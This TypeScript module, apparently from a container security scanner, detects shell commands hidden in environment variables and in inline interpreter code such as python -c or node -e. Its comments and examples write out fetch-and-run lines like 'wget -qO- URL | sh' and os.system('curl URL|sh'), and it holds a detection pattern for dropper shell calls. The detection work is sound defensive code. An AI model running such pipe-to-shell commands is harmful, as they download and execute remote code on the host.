// Shell text hidden one step away from the command line: in environment variables the command expands
// (`sh -c "$P"` with P="wget -qO- URL | sh", `/tmp/x $ARGS`), and in the string an inline interpreter hands to
// the system shell (`python3 -c "os.system('curl URL|sh')"`). Pure: it returns the text to split again.
import { inlineScript, progName, type ShellCommand } from './split.js';

/** Characters kept of one expanded variable or embedded string. */
export const MAX_EXPANDED_CHARS = 16 * 1024;

export interface HiddenScript {
  readonly text: string;
  readonly source: string;
  readonly origin: 'env' | 'embedded';
  readonly decoded: boolean;
}

const VAR_REF = /\$(?:\{(\w+)\}|(\w+))/g;

/** `KEY=value` strings into a map (the first of a repeated key wins, as the engine keeps it). */
function envMap(env: readonly string[]): Map<string, string> {
  const m = new Map<string, string>();
  for (const e of env) {
    const eq = e.indexOf('=');
    if (eq > 0 && !m.has(e.slice(0, eq))) m.set(e.slice(0, eq), e.slice(eq + 1, eq + 1 + MAX_EXPANDED_CHARS));
  }
  return m;
}

/**
 * Commands that use variables defined in the container's environment, with the variables put in: what the
 * shell will really run. Only commands that reference at least one such variable are returned.
 * @example envExpansions(splitShell('sh -c "$P"'), ['P=curl x|sh'])[0].text === 'curl x|sh'
 */
export function envExpansions(batch: readonly ShellCommand[], env: readonly string[]): HiddenScript[] {
  if (env.length === 0) return [];
  const vars = envMap(env);
  const out: HiddenScript[] = [];
  for (const c of batch) {
    // `sh -c "...$P..."` and `eval`: their script is split into commands of its own, which are the ones expanded.
    if (inlineScript(c.argv) !== undefined) continue;
    let used = false;
    const words = c.argv.map((w) => w.replace(VAR_REF, (ref, a?: string, b?: string) => {
      const v = vars.get((a ?? b) as string);
      if (v === undefined) return ref;
      used = true;
      return v;
    }));
    if (!used) continue;
    out.push({ text: words.join(' '), source: c.source, origin: 'env', decoded: c.decoded ?? false });
  }
  return out;
}

const INLINE_FLAGS: Readonly<Record<string, readonly string[]>> = {
  python: ['-c'], python2: ['-c'], python3: ['-c'], perl: ['-e', '-E'], ruby: ['-e'], php: ['-r'], node: ['-e', '--eval', '-p'],
};
/** Calls that hand a string to the system shell, in the languages droppers use inline. */
const SHELL_CALL = /(?:os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|getoutput|Popen)|commands\.getoutput|\bsystem|\bexec(?:Sync)?|\bspawnSync|\bpopen|shell_exec|passthru|IO\.popen|%x)\s*\(\s*(['"])((?:\\.|(?!\1)[^\\])*)\1/g;
const BACKTICKS = /`([^`]{3,})`/g;

/**
 * Shell commands an inline interpreter program runs through the system shell: `os.system('...')`,
 * `subprocess.run("...", shell=True)`, perl/ruby/php `system("...")` and backticks, node `execSync('...')`.
 */
export function embeddedShell(batch: readonly ShellCommand[]): HiddenScript[] {
  const out: HiddenScript[] = [];
  for (const c of batch) {
    const flags = INLINE_FLAGS[progName(c.argv[0]).replace(/[\d.]+$/, (v) => (v === '2' || v === '3' ? v : ''))];
    if (!flags) continue;
    const k = c.argv.findIndex((x, i) => i > 0 && flags.includes(x));
    const code = k > 0 ? c.argv[k + 1] : undefined;
    if (!code) continue;
    const found = [...code.matchAll(SHELL_CALL)].map((m) => (m[2] as string).replace(/\\(['"\\])/g, '$1'));
    if (progName(c.argv[0]) !== 'node' && !progName(c.argv[0]).startsWith('python')) found.push(...[...code.matchAll(BACKTICKS)].map((m) => m[1] as string));
    for (const text of found) {
      if (text.trim() !== '') out.push({ text: text.slice(0, MAX_EXPANDED_CHARS), source: c.source, origin: 'embedded', decoded: c.decoded ?? false });
    }
  }
  return out;
}
